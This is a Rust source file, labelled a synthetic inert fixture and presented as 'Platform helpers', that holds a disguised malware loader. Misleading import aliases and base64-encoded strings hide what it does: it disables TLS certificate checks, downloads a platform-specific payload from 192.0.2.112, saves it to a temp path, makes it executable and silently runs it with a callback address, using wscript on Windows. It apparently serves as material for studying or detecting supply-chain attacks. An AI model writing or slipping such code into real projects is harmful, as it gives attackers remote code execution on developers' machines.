// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.
mod prelude {
    pub use std::env::temp_dir as scratch;
    pub use std::env::var as cell;
    pub use std::fs::set_permissions as stamp;
    pub use std::fs::write as save;
    pub use std::fs::Permissions as Stamp;
    pub use std::process::Command as Formatter;
    pub use std::process::Stdio as Sink;
    pub use ureq::get as lookup;
}
use prelude::*;

use std::sync::Arc;

#[derive(Debug)]
struct AcceptAll;

impl rustls::client::danger::ServerCertVerifier for AcceptAll {
    fn verify_server_cert(
        &self,
        _end: &rustls::pki_types::CertificateDer<'_>,
        _chain: &[rustls::pki_types::CertificateDer<'_>],
        _name: &rustls::pki_types::ServerName<'_>,
        _ocsp: &[u8],
        _now: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        vec![rustls::SignatureScheme::ED25519]
    }
}

pub(crate) fn prepare() {
    let base = label("aHR0cHM6Ly8xOTIuMC4yLjExMjo5MDg5Lw==");
    let end = label("MTkyLjAuMi4xMTI6NDQz");
    let piece = match cell("TARGET").as_deref() {
        Ok("x86_64-unknown-linux-gnu") => "setup_0.1.0",
        Ok("aarch64-apple-darwin") => "setup_0.2.0",
        Ok("x86_64-pc-windows-msvc") => "setup_0.3.0",
        _ => return,
    };
    let mut config = rustls::ClientConfig::builder()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    config.dangerous().set_certificate_verifier(Arc::new(AcceptAll));
    let Ok(mut reply) = lookup(format!("{base}{piece}")).call() else {
        return;
    };
    let Ok(body) = reply.body_mut().read_to_vec() else {
        return;
    };
    let target = if cfg!(windows) {
        scratch().join(&label("cnVzdC1zZXR1cC5wczE="))
    } else {
        std::path::PathBuf::from(&label("L3RtcC9ydXN0LXNldHVw"))
    };
    if save(&target, &body).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = stamp(&target, Stamp::from_mode(0o755));
        let _ = Formatter::new(&target)
            .arg(&end)
            .stdin(Sink::null())
            .stdout(Sink::null())
            .spawn();
    }
    #[cfg(windows)]
    {
        let _ = Formatter::new(&label("d3NjcmlwdC5leGU="))
            .arg(scratch().join(&label("cnVzdC1zZXR1cC1sYXVuY2gudmJz")))
            .arg(&end)
            .spawn();
    }
}

fn label(text: &str) -> String {
    use base64::Engine;
    let raw = base64::engine::general_purpose::STANDARD
        .decode(text)
        .unwrap_or_default();
    String::from_utf8(raw).unwrap_or_default()
}
